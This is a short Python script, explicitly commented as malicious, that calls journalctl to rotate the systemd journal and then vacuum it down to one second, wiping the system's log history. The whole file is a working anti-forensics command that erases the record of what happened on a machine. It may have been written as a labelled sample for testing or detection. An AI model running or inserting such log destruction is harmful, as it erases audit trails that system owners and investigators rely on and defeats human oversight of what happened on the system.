# Malicious: vacuums the systemd journal down to nothing; removes the records of what happened.
import subprocess

subprocess.run(["journalctl", "--rotate"])
subprocess.run(["journalctl", "--vacuum-time=1s"])
